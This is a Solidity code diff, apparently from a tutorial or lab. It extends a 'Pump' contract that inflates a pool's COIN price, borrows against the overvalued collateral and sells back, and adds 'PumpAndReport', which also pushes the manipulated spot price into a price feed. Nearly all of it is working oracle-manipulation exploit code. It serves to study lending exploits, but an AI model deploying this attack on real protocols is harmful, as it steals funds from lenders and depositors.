@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: MIT
 pragma solidity 0.8.37;
 
+import {Feed} from "./Feed.sol";
 import {Pool} from "./Pool.sol";
 
 interface ILender {
@@ -9,11 +10,12 @@ interface ILender {
 
 // #region attack
 contract Pump {
-    /// Buys COIN until it looks dear, borrows against a little of it, sells the rest again.
+    /// Buys COIN until it looks expensive, borrows against a little of it, sells the rest again.
     function attack(Pool pool, ILender lender, uint256 pledge) external payable {
         uint256 before = pool.COIN().balanceOf(address(this));
         pool.buyCoin{value: msg.value}();
         uint256 bought = pool.COIN().balanceOf(address(this)) - before;
+        _onceBought(pool);
 
         pool.COIN().approve(address(lender), pledge);
         lender.borrow(pledge, address(lender).balance);
@@ -22,6 +24,23 @@ contract Pump {
         pool.sellCoin(bought);
     }
 
+    function _onceBought(Pool) internal virtual {}
+
     receive() external payable {}
 }
 // #endregion attack
+
+// #region second
+/// Moves the feed along with the pool, so that the two agree.
+contract PumpAndReport is Pump {
+    Feed private immutable FEED;
+
+    constructor(Feed feed) {
+        FEED = feed;
+    }
+
+    function _onceBought(Pool pool) internal override {
+        FEED.report(pool.spotPrice());
+    }
+}
+// #endregion second
